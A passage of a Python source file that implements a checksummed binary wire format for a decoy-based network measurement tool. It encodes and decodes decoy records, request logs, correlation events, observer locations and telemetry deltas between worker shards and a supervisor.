        return bytes(self.data[pos:pos + length])

    def done(self) -> bool:
        return self.pos == self.end


# -- string interning ------------------------------------------------------


class _Encoder:
    """Body writer plus the payload-wide string table it populates.

    References are assigned in first-use order while the body is written
    (the shared :class:`~repro.core.columnar.StringTable` — the same
    machinery the columnar in-memory stores intern through, so the wire
    format and the stores agree on ordering semantics by construction);
    :meth:`frame` then emits ``MAGIC | version | kind | table | body |
    crc32`` so the decoder can materialize every string up front.
    """

    __slots__ = ("body", "_table")

    def __init__(self):
        self.body = _Writer()
        self._table = StringTable()

    def ref(self, value: str) -> None:
        self.body.varint(self._table.intern(value))

    def opt_ref(self, value: Optional[str]) -> None:
        if value is None:
            self.body.varint(0)
        else:
            self.body.varint(self._table.intern(value) + 1)

    def frame(self, kind: int) -> bytes:
        head = _Writer()
        head.buf += _MAGIC
        head.buf.append(WIRE_VERSION)
        head.buf.append(kind)
        head.varint(len(self._table))
        for value in self._table.values():
            head.blob(value.encode("utf-8"))
        head.buf += self.body.buf
        head.buf += _U32.pack(zlib.crc32(head.buf))
        return bytes(head.buf)


class _Decoder(_Reader):
    """Reader with the payload's string table pre-materialized."""

    __slots__ = ("strings",)

    def __init__(self, data: bytes, start: int, end: int):
        super().__init__(data, start, end)
        count = self.varint()
        strings = []
        for _ in range(count):
            try:
                strings.append(self.blob().decode("utf-8"))
            except UnicodeDecodeError as exc:
                raise WireError(f"malformed string table entry: {exc}") from None
        self.strings = strings

    def ref(self) -> str:
        ident = self.varint()
        try:
            return self.strings[ident]
        except IndexError:
            raise WireError(f"string reference {ident} out of table") from None

    def opt_ref(self) -> Optional[str]:
        ident = self.varint()
        if ident == 0:
            return None
        try:
            return self.strings[ident - 1]
        except IndexError:
            raise WireError(f"string reference {ident - 1} out of table") from None


def _open(blob: bytes, kind: int) -> _Decoder:
    if len(blob) < 10:
        raise WireError(f"blob of {len(blob)} bytes is too short to frame")
    if blob[:4] != _MAGIC:
        raise WireError(f"bad magic {bytes(blob[:4])!r}")
    if blob[4] != WIRE_VERSION:
        raise WireError(
            f"blob is wire version {blob[4]}; this build decodes version "
            f"{WIRE_VERSION}"
        )
    if _U32.unpack_from(blob, len(blob) - 4)[0] != zlib.crc32(blob[:-4]):
        raise WireError("checksum mismatch — blob is corrupt or truncated")
    if blob[5] != kind:
        raise WireError(f"expected payload kind {kind}, got {blob[5]}")
    return _Decoder(blob, 6, len(blob) - 4)


# -- field-group codecs ----------------------------------------------------


def _write_record(enc: _Encoder, key: LedgerKey, record: DecoyRecord) -> None:
    w = enc.body
    w.f64(key[0])
    w.varint(key[1])
    w.zigzag(key[2])
    w.zigzag(key[3])
    _write_bare_record(enc, record)


def _write_bare_record(enc: _Encoder, record: DecoyRecord) -> None:
    """A :class:`DecoyRecord` without a ledger key — the feed/serve
    payloads carry registration order implicitly."""
    w = enc.body
    identity = record.identity
    w.varint(identity.sent_at)
    enc.ref(identity.vp_address)
    enc.ref(identity.dst_address)
    w.varint(identity.ttl)
    w.varint(identity.sequence)
    enc.ref(record.domain)
    enc.ref(record.protocol)
    enc.ref(record.vp_id)
    enc.ref(record.vp_country)
    enc.opt_ref(record.vp_province)
    enc.ref(record.destination_address)
    enc.ref(record.destination_name)
    enc.ref(record.destination_kind)
    enc.ref(record.destination_country)
    enc.ref(record.instance_country)
    w.varint(record.path_length)
    w.f64(record.sent_at)
    w.varint(record.phase)
    w.flag(record.delivered)
    w.varint(record.round_index)
    enc.ref(record.mitigation)


def _read_record(dec: _Decoder) -> Tuple[LedgerKey, DecoyRecord]:
    key = (dec.f64(), dec.varint(), dec.zigzag(), dec.zigzag())
    return key, _read_bare_record(dec)


def _read_bare_record(dec: _Decoder) -> DecoyRecord:
    identity = DecoyIdentity(
        sent_at=dec.varint(),
        vp_address=dec.ref(),
        dst_address=dec.ref(),
        ttl=dec.varint(),
        sequence=dec.varint(),
    )
    record = DecoyRecord(
        identity=identity,
        domain=dec.ref(),
        protocol=dec.ref(),
        vp_id=dec.ref(),
        vp_country=dec.ref(),
        vp_province=dec.opt_ref(),
        destination_address=dec.ref(),
        destination_name=dec.ref(),
        destination_kind=dec.ref(),
        destination_country=dec.ref(),
        instance_country=dec.ref(),
        path_length=dec.varint(),
        sent_at=dec.f64(),
        phase=dec.varint(),
        delivered=dec.flag(),
        round_index=dec.varint(),
        mitigation=dec.ref(),
    )
    return record


def _write_records(enc: _Encoder,
                   records: Sequence[Tuple[LedgerKey, DecoyRecord]]) -> None:
    enc.body.varint(len(records))
    for key, record in records:
        _write_record(enc, key, record)


def _read_records(dec: _Decoder) -> List[Tuple[LedgerKey, DecoyRecord]]:
    return [_read_record(dec) for _ in range(dec.varint())]


def _write_log_entry(enc: _Encoder, entry: LoggedRequest) -> None:
    w = enc.body
    w.f64(entry.time)
    enc.ref(entry.site)
    enc.ref(entry.protocol)
    enc.ref(entry.src_address)
    enc.ref(entry.domain)
    enc.opt_ref(entry.path)
    w.varint(0 if entry.qtype is None else entry.qtype + 1)
    enc.opt_ref(entry.user_agent)


def _read_log_entry(dec: _Decoder) -> LoggedRequest:
    time = dec.f64()
    site = dec.ref()
    protocol = dec.ref()
    src_address = dec.ref()
    domain = dec.ref()
    path = dec.opt_ref()
    qtype = dec.varint()
    user_agent = dec.opt_ref()
    return LoggedRequest(
        time=time, site=site, protocol=protocol, src_address=src_address,
        domain=domain, path=path,
        qtype=None if qtype == 0 else qtype - 1,
        user_agent=user_agent,
    )


def _write_log(enc: _Encoder, entries: Sequence[LoggedRequest]) -> None:
    enc.body.varint(len(entries))
    for entry in entries:
        _write_log_entry(enc, entry)


def _read_log(dec: _Decoder) -> List[LoggedRequest]:
    return [_read_log_entry(dec) for _ in range(dec.varint())]


def _write_events(enc: _Encoder, events: Sequence[ShadowingEvent],
                  record_index: Dict[str, int],
                  log_index: Dict[int, int]) -> None:
    enc.body.varint(len(events))
    for event in events:
        enc.body.varint(record_index[event.decoy.domain])
        enc.body.varint(log_index[id(event.request)])
        enc.ref(event.combo)


def _read_events(dec: _Decoder, records: Sequence[DecoyRecord],
                 entries: Sequence[LoggedRequest]) -> List[ShadowingEvent]:
    events = []
    for _ in range(dec.varint()):
        record_ref = dec.varint()
        entry_ref = dec.varint()
        combo = dec.ref()
        try:
            events.append(ShadowingEvent(
                decoy=records[record_ref],
                request=entries[entry_ref],
                combo=combo,
            ))
        except IndexError:
            raise WireError(
                f"event references record {record_ref}/log {entry_ref} "
                "outside the payload"
            ) from None
    return events


def _write_correlation(enc: _Encoder, correlation: ShardCorrelation,
                       record_index: Dict[str, int],
                       log_index: Dict[int, int],
                       firsts_skip: int = 0,
                       unknown_skip: int = 0) -> None:
    w = enc.body
    firsts = correlation.firsts[firsts_skip:]
    w.varint(len(firsts))
    for time, index, domain in firsts:
        w.f64(time)
        w.varint(index)
        enc.ref(domain)
    w.varint(len(correlation.events))
    for domain, events in correlation.events.items():
        enc.ref(domain)
        _write_events(enc, events, record_index, log_index)
    w.varint(len(correlation.initial_arrivals))
    for domain, entry in correlation.initial_arrivals.items():
        enc.ref(domain)
        w.varint(log_index[id(entry)])
    unknown = correlation.unknown_domains[unknown_skip:]
    w.varint(len(unknown))
    for domain in unknown:
        enc.ref(domain)


def _read_correlation(dec: _Decoder, records: Sequence[DecoyRecord],
                      entries: Sequence[LoggedRequest]) -> ShardCorrelation:
    firsts = [(dec.f64(), dec.varint(), dec.ref())
              for _ in range(dec.varint())]
    events: Dict[str, List[ShadowingEvent]] = {}
    for _ in range(dec.varint()):
        domain = dec.ref()
        events[domain] = _read_events(dec, records, entries)
    arrivals: Dict[str, LoggedRequest] = {}
    for _ in range(dec.varint()):
        domain = dec.ref()
        entry_ref = dec.varint()
        try:
            arrivals[domain] = entries[entry_ref]
        except IndexError:
            raise WireError(
                f"initial arrival references log entry {entry_ref} "
                "outside the payload"
            ) from None
    unknown = [dec.ref() for _ in range(dec.varint())]
    return ShardCorrelation(firsts=firsts, events=events,
                            initial_arrivals=arrivals,
                            unknown_domains=unknown)


def _write_spans(enc: _Encoder, spans: Sequence[Span]) -> None:
    enc.body.varint(len(spans))
    for span in spans:
        enc.ref(span.name)
        enc.body.f64(span.wall_seconds)
        enc.body.f64(span.virtual_start)
        enc.body.f64(span.virtual_end)
        enc.body.zigzag(span.shard)


def _read_spans(dec: _Decoder) -> List[Span]:
    return [
        Span(name=dec.ref(), wall_seconds=dec.f64(), virtual_start=dec.f64(),
             virtual_end=dec.f64(), shard=dec.zigzag())
        for _ in range(dec.varint())
    ]


def _write_location(enc: _Encoder, location: ObserverLocation) -> None:
    w = enc.body
    enc.ref(location.vp_id)
    enc.ref(location.vp_country)
    enc.ref(location.destination_address)
    enc.ref(location.destination_name)
    enc.ref(location.protocol)
    w.varint(location.path_length)
    w.varint(0 if location.trigger_ttl is None else location.trigger_ttl + 1)
    enc.opt_ref(location.observer_address)
    w.varint(0 if location.observer_asn is None else location.observer_asn + 1)
    enc.opt_ref(location.observer_country)


def _read_location(dec: _Decoder) -> ObserverLocation:
    vp_id = dec.ref()
    vp_country = dec.ref()
    destination_address = dec.ref()
    destination_name = dec.ref()
    protocol = dec.ref()
    path_length = dec.varint()
    trigger_ttl = dec.varint()
    observer_address = dec.opt_ref()
    observer_asn = dec.varint()
    observer_country = dec.opt_ref()
    return ObserverLocation(
        vp_id=vp_id, vp_country=vp_country,
        destination_address=destination_address,
        destination_name=destination_name, protocol=protocol,
        path_length=path_length,
        trigger_ttl=None if trigger_ttl == 0 else trigger_ttl - 1,
        observer_address=observer_address,
        observer_asn=None if observer_asn == 0 else observer_asn - 1,
        observer_country=observer_country,
    )


def _write_str_int_map(enc: _Encoder, mapping: Dict[str, int]) -> None:
    enc.body.varint(len(mapping))
    for key, value in mapping.items():
        enc.ref(key)
        enc.body.varint(value)


def _read_str_int_map(dec: _Decoder) -> Dict[str, int]:
    return {dec.ref(): dec.varint() for _ in range(dec.varint())}


def _write_json(enc: _Encoder, value) -> None:
    """A canonical-JSON section: telemetry/analysis snapshots and their
    structural diffs are tree-shaped dicts the registry/accumulator code
    already round-trips through JSON (checkpoints, bundles)."""
    if value is None:
        enc.body.flag(False)
        return
    enc.body.flag(True)
    enc.body.blob(json.dumps(value, sort_keys=True,
                             separators=(",", ":")).encode("utf-8"))


def _read_json(dec: _Decoder):
    if not dec.flag():
        return None
    try:
        return json.loads(dec.blob().decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise WireError(f"malformed JSON section: {exc}") from None


# -- snapshot deltas -------------------------------------------------------
#
# Telemetry and analysis snapshots are JSON trees whose Phase II versions
# mostly extend their Phase I versions: counters grow, histogram buckets
# fill, accumulator lists append.  A structural diff ships O(changes)
# instead of O(state); application is exact (``apply == new``) for any
# pair of JSON values, so exactness never depends on which parts changed.

_SD_REPLACE = "r"
_SD_DICT = "d"
_SD_APPEND = "a"
_SD_SAME = "="


def snapshot_delta(old, new):
    """Structural diff of two JSON-able values; see
    :func:`apply_snapshot_delta` for the inverse."""
    if old == new:
        return [_SD_SAME]
    if isinstance(old, dict) and isinstance(new, dict):
        changed = {}
        for key, value in new.items():
            if key not in old:
                changed[key] = [_SD_REPLACE, value]
            elif old[key] != value:
                changed[key] = snapshot_delta(old[key], value)
        removed = sorted(key for key in old if key not in new)
        return [_SD_DICT, changed, removed]
    if (isinstance(old, list) and isinstance(new, list)
            and len(new) >= len(old) and new[:len(old)] == old):
        return [_SD_APPEND, new[len(old):]]
    return [_SD_REPLACE, new]


def apply_snapshot_delta(old, delta):
    """Reconstruct ``new`` from ``old`` and ``snapshot_delta(old, new)``."""
    try:
        tag = delta[0]
        if tag == _SD_SAME:
            return old
        if tag == _SD_REPLACE:
            return delta[1]
        if tag == _SD_APPEND:
            return list(old) + list(delta[1])
        if tag == _SD_DICT:
            _, changed, removed = delta
            result = {key: value for key, value in old.items()
                      if key not in removed}
            for key, child in changed.items():
                result[key] = (apply_snapshot_delta(old[key], child)
                               if key in old else child[1])
            return result
    except (TypeError, KeyError, IndexError, AttributeError) as exc:
        raise WireError(f"malformed snapshot delta: {exc}") from None
    raise WireError(f"unknown snapshot delta tag {tag!r}")


def _normalize_json(value):
    """The JSON image of a snapshot (tuples -> lists, int keys -> str).

    Deltas are computed and applied in this space so the worker's
    in-memory snapshot and the supervisor's decoded copy agree exactly.
    """
    return json.loads(json.dumps(value, sort_keys=True,
                                 separators=(",", ":")))


# -- payload codecs --------------------------------------------------------


def _record_index(records: Sequence[Tuple[LedgerKey, DecoyRecord]],
                  base: int = 0,
                  into: Optional[Dict[str, int]] = None) -> Dict[str, int]:
    index = {} if into is None else into
    for position, (_, record) in enumerate(records, base):
        index[record.domain] = position
    return index


def _log_identity_index(entries: Sequence[LoggedRequest],
                        base: int = 0,
                        into: Optional[Dict[int, int]] = None) -> Dict[int, int]:
    index = {} if into is None else into
    for position, entry in enumerate(entries, base):
        index[id(entry)] = position
    return index


def encode_phase1_payload(payload: ShardPhase1Payload) -> bytes:
    enc = _Encoder()
    w = enc.body
    w.varint(payload.shard_index)
    w.varint(payload.sends_planned)
    w.varint(payload.sends_scheduled)
    w.f64(payload.last_send_time)
    w.f64(payload.virtual_now)
    w.varint(payload.vetting_kept)
    w.varint(payload.vetting_removed_ttl)
    w.varint(payload.vetting_removed_intercepted)
    w.f64(payload.wall_seconds)
    _write_records(enc, payload.records)
    _write_log(enc, payload.log_entries)
    if payload.correlation is None:
        w.flag(False)
    else:
        w.flag(True)
        _write_correlation(enc, payload.correlation,
                           _record_index(payload.records),
                           _log_identity_index(payload.log_entries))
    _write_json(enc, payload.analysis)
    _write_json(enc, payload.telemetry)
    return enc.frame(_KIND_PHASE1)


def decode_phase1_payload(blob: bytes) -> ShardPhase1Payload:
    dec = _open(blob, _KIND_PHASE1)
    shard_index = dec.varint()
    sends_planned = dec.varint()
    sends_scheduled = dec.varint()
    last_send_time = dec.f64()
    virtual_now = dec.f64()
    vetting_kept = dec.varint()
    vetting_removed_ttl = dec.varint()
    vetting_removed_intercepted = dec.varint()
    wall_seconds = dec.f64()
    records = _read_records(dec)
    log_entries = _read_log(dec)
    correlation = None
    if dec.flag():
        correlation = _read_correlation(
            dec, [record for _, record in records], log_entries)
    analysis = _read_json(dec)
    telemetry = _read_json(dec)
    if not dec.done():
        raise WireError("trailing bytes after phase1 payload")
    return ShardPhase1Payload(
        shard_index=shard_index, records=records, log_entries=log_entries,
        sends_planned=sends_planned, sends_scheduled=sends_scheduled,
        last_send_time=last_send_time, virtual_now=virtual_now,
        vetting_kept=vetting_kept, vetting_removed_ttl=vetting_removed_ttl,
        vetting_removed_intercepted=vetting_removed_intercepted,
        wall_seconds=wall_seconds, correlation=correlation,
        analysis=analysis, telemetry=telemetry,
    )


def encode_final_payload(payload: ShardFinalPayload,
                         base: ShardPhase1Payload) -> bytes:
    """Encode the Phase II payload as deltas against the Phase I payload.

    ``payload`` holds the shard's FULL correlation/telemetry/analysis (as
    the merge code consumes them); the encoder derives the shipped deltas
    here so the worker never maintains parallel delta state.
    """
    enc = _Encoder()
    w = enc.body
    w.varint(payload.shard_index)
    w.varint(payload.processed)
    w.varint(payload.emitter_emitted)
    w.f64(payload.virtual_now)
    w.f64(payload.wall_seconds)
    _write_records(enc, payload.records)
    _write_log(enc, payload.log_entries)

    w.varint(len(payload.locations))
    for plan_index, location in payload.locations:
        w.zigzag(plan_index)
        _write_location(enc, location)

    w.varint(len(payload.ground_truth))
    for _, observation in payload.ground_truth:
        enc.ref(observation.exhibitor)
        enc.ref(observation.domain)
        w.f64(observation.observed_at)
        enc.ref(observation.observed_from)
        w.flag(observation.leveraged)
        w.varint(observation.scheduled_requests)

    _write_str_int_map(enc, payload.label_counts)
    w.varint(len(payload.exhibitor_counts))
    for name, (observed, leveraged) in payload.exhibitor_counts.items():
        enc.ref(name)
        w.varint(observed)
        w.varint(leveraged)
    _write_str_int_map(enc, payload.resolver_received)
    _write_spans(enc, payload.spans)

    # Correlation delta: only events whose triggering request arrived
    # after the Phase I log boundary, plus the firsts/unknown tails and
    # arrivals for domains Phase I had none for.  Indexes are global —
    # base records/log first, then this payload's deltas.
    if payload.correlation is None or base.correlation is None:
        w.flag(False)
        if payload.correlation is not None:
            raise WireError(
                "final payload has a correlation but the phase1 payload "
                "does not; delta encoding needs both"
            )
    else:
        w.flag(True)
        record_index = _record_index(base.records)
        _record_index(payload.records, base=len(base.records),
                      into=record_index)
        log_index = _log_identity_index(base.log_entries)
        _log_identity_index(payload.log_entries, base=len(base.log_entries),
                            into=log_index)
        base_len = len(base.log_entries)
        base_corr = base.correlation
        full = payload.correlation
        new_events: Dict[str, List[ShadowingEvent]] = {}
        for domain, events in full.events.items():
            tail = [event for event in events
                    if log_index[id(event.request)] >= base_len]
            if tail:
                new_events[domain] = tail
        new_arrivals = {
            domain: entry
            for domain, entry in full.initial_arrivals.items()
            if domain not in base_corr.initial_arrivals
        }
        delta = ShardCorrelation(
            firsts=full.firsts, events=new_events,
            initial_arrivals=new_arrivals,
            unknown_domains=full.unknown_domains,
        )
        _write_correlation(enc, delta, record_index, log_index,
                           firsts_skip=len(base_corr.firsts),
                           unknown_skip=len(base_corr.unknown_domains))

    if payload.telemetry and base.telemetry is not None:
        w.flag(True)
        _write_json(enc, snapshot_delta(_normalize_json(base.telemetry),
                                        _normalize_json(payload.telemetry)))
    else:
        w.flag(False)
        _write_json(enc, _normalize_json(payload.telemetry)
                    if payload.telemetry else payload.telemetry or {})

    if payload.analysis is not None and base.analysis is not None:
        w.flag(True)
        _write_json(enc, snapshot_delta(_normalize_json(base.analysis),
                                        _normalize_json(payload.analysis)))
    else:
        w.flag(False)
        _write_json(enc, payload.analysis)
    return enc.frame(_KIND_FINAL)


def decode_final_payload(blob: bytes,
                         base: ShardPhase1Payload) -> ShardFinalPayload:
    """Decode a final payload, reconstructing full state from deltas.

    ``base`` must be the (decoded) Phase I payload of the same shard —
    the supervisor holds it from round one, and the checkpoint store
    loads it before any final payload.
    """
    dec = _open(blob, _KIND_FINAL)
    shard_index = dec.varint()
    if shard_index != base.shard_index:
        raise WireError(
            f"final payload is for shard {shard_index} but the phase1 "
            f"context is for shard {base.shard_index}"
        )
    processed = dec.varint()
    emitter_emitted = dec.varint()
    virtual_now = dec.f64()
    wall_seconds = dec.f64()
    records = _read_records(dec)
    log_entries = _read_log(dec)
    locations = [(dec.zigzag(), _read_location(dec))
                 for _ in range(dec.varint())]
    ground_truth = []
    for _ in range(dec.varint()):
        observation = ObservationRecord(
            exhibitor=dec.ref(), domain=dec.ref(), observed_at=dec.f64(),
            observed_from=dec.ref(), leveraged=dec.flag(),
            scheduled_requests=dec.varint(),
        )
        ground_truth.append((observation.observed_at, observation))
    label_counts = _read_str_int_map(dec)
    exhibitor_counts = {}
    for _ in range(dec.varint()):
        name = dec.ref()
        exhibitor_counts[name] = (dec.varint(), dec.varint())
    resolver_received = _read_str_int_map(dec)
    spans = _read_spans(dec)

    correlation = None
    if dec.flag():
        if base.correlation is None:
            raise WireError(
                "final payload carries a correlation delta but the phase1 "
                "context has no correlation to apply it to"
            )
        all_records = [record for _, record in base.records]
        all_records += [record for _, record in records]
        all_entries = base.log_entries + log_entries
        delta = _read_correlation(dec, all_records, all_entries)
        correlation = _apply_correlation_delta(base.correlation, delta)

    telemetry_is_delta = dec.flag()
    telemetry_section = _read_json(dec)
    if telemetry_is_delta:
        telemetry = apply_snapshot_delta(_normalize_json(base.telemetry),
                                         telemetry_section)
    else:
        telemetry = telemetry_section if telemetry_section is not None else {}

    analysis_is_delta = dec.flag()
    analysis_section = _read_json(dec)
    if analysis_is_delta:
        analysis = apply_snapshot_delta(_normalize_json(base.analysis),
                                        analysis_section)
    else:
        analysis = analysis_section
    if not dec.done():
        raise WireError("trailing bytes after final payload")
    return ShardFinalPayload(
        shard_index=shard_index, records=records, log_entries=log_entries,
        locations=locations, ground_truth=ground_truth,
        label_counts=label_counts, processed=processed,
        exhibitor_counts=exhibitor_counts,
        resolver_received=resolver_received,
        emitter_emitted=emitter_emitted, virtual_now=virtual_now,
        wall_seconds=wall_seconds, telemetry=telemetry, spans=spans,
        correlation=correlation, analysis=analysis,
    )


def _apply_correlation_delta(base: ShardCorrelation,
                             delta: ShardCorrelation) -> ShardCorrelation:
    """Rebuild the full-log shard correlation from Phase I + delta.

    Per-domain event order must match what a fresh full-log correlation
    pass would emit: events grouped by the *logged* domain that carried
    them (``event.request.domain``), groups ordered by that domain's
    first appearance in the log, arrivals in order within each group.
    Phase I events for a logged domain all precede its Phase II events,
    so a stable sort of (base + new) on the first-appearance index is
    exact.  (Multiple logged domains — aliases — can map onto one
    canonical decoy domain, which is why concatenation alone is not
    enough.)
    """
    firsts = base.firsts + delta.firsts
    first_position: Dict[str, int] = {}
    for _, index, domain in firsts:
        if domain not in first_position:
            first_position[domain] = index
    events = {domain: entries for domain, entries in base.events.items()}
    for domain, new_events in delta.events.items():
        combined = events.get(domain, []) + new_events
        try:
            combined.sort(key=lambda event:
                          first_position[event.request.domain])
        except KeyError as exc:
            raise WireError(
                f"correlation delta event references logged domain {exc} "
                "absent from the firsts table"
            ) from None
        events[domain] = combined
    arrivals = dict(base.initial_arrivals)
    arrivals.update(delta.initial_arrivals)
    return ShardCorrelation(
        firsts=firsts, events=events, initial_arrivals=arrivals,
        unknown_domains=base.unknown_domains + delta.unknown_domains,
    )


# -- phase II plan slices --------------------------------------------------


def encode_plan_slices(slices: Sequence[Sequence]) -> bytes:
    """Encode a list of per-shard Phase II plan slices."""
    enc = _Encoder()
    enc.body.varint(len(slices))
    for plan_slice in slices:
        enc.body.varint(len(plan_slice))
        for entry in plan_slice:
            enc.body.varint(entry.index)
            enc.ref(entry.vp_id)
            enc.ref(entry.vp_address)
            enc.ref(entry.destination_address)
            enc.ref(entry.destination_country)
            enc.ref(entry.destination_name)
            enc.ref(entry.protocol)
    return enc.frame(_KIND_PLAN)


def decode_plan_slices(blob: bytes) -> List[List]:
    from repro.core.experiment import Phase2PlanEntry

    dec = _open(blob, _KIND_PLAN)
    slices = []
    for _ in range(dec.varint()):
        plan_slice = []
        for _ in range(dec.varint()):
            plan_slice.append(Phase2PlanEntry(
                index=dec.varint(),
                vp_id=dec.ref(),
                vp_address=dec.ref(),
                destination_address=dec.ref(),
                destination_country=dec.ref(),
                destination_name=dec.ref(),
                protocol=dec.ref(),
            ))
        slices.append(plan_slice)
    if not dec.done():
        raise WireError("trailing bytes after plan payload")
    return slices


# -- record feed / serve state ---------------------------------------------


def _write_bare_records(enc: _Encoder, records: Sequence[DecoyRecord]) -> None:
    enc.body.varint(len(records))
    for record in records:
        _write_bare_record(enc, record)


def _read_bare_records(dec: _Decoder) -> List[DecoyRecord]:
    return [_read_bare_record(dec) for _ in range(dec.varint())]


def encode_feed_batch(batch: FeedBatch) -> bytes:
    enc = _Encoder()
    enc.ref(batch.campaign_id)
    enc.body.varint(batch.seq)
    _write_bare_records(enc, batch.records)
    _write_log(enc, batch.log_entries)
    enc.body.varint(len(batch.locations))
    for location in batch.locations:
        _write_location(enc, location)
    _write_json(enc, batch.context)
    return enc.frame(_KIND_FEED)


def decode_feed_batch(blob: bytes) -> FeedBatch:
    dec = _open(blob, _KIND_FEED)
    campaign_id = dec.ref()
    seq = dec.varint()
    records = _read_bare_records(dec)
    log_entries = _read_log(dec)
    locations = [_read_location(dec) for _ in range(dec.varint())]
    context = _read_json(dec)
    if not dec.done():
        raise WireError("trailing bytes after feed batch")
    return FeedBatch(campaign_id=campaign_id, seq=seq, records=records,
                     log_entries=log_entries, locations=locations,
                     context=context)


def encode_serve_state(state: ServeCampaignState) -> bytes:
    enc = _Encoder()
    enc.ref(state.campaign_id)
    enc.body.varint(state.seq)
    enc.body.varint(state.log_records)
    enc.body.varint(state.location_count)
    _write_bare_records(enc, state.records)
    _write_json(enc, state.correlator)
    _write_json(enc, state.analysis)
    return enc.frame(_KIND_SERVE_STATE)


def decode_serve_state(blob: bytes) -> ServeCampaignState:
    dec = _open(blob, _KIND_SERVE_STATE)
    campaign_id = dec.ref()
    seq = dec.varint()
    log_records = dec.varint()
    location_count = dec.varint()
    records = _read_bare_records(dec)
    correlator = _read_json(dec)
    analysis = _read_json(dec)
    if not dec.done():
        raise WireError("trailing bytes after serve state")
    if correlator is None or analysis is None:
        raise WireError("serve state is missing its correlator/analysis "
                        "sections")
    return ServeCampaignState(
        campaign_id=campaign_id, seq=seq, log_records=log_records,
        location_count=location_count, records=records,
        correlator=correlator, analysis=analysis,
    )


def encode_plan_slice(plan_slice: Sequence) -> bytes:
    """One shard's slice, for Phase II dispatch over the pipe."""
    return encode_plan_slices([plan_slice])


def decode_plan_slice(blob: bytes) -> List:
    slices = decode_plan_slices(blob)
    if len(slices) != 1:
        raise WireError(f"expected one plan slice, got {len(slices)}")
    return slices[0]
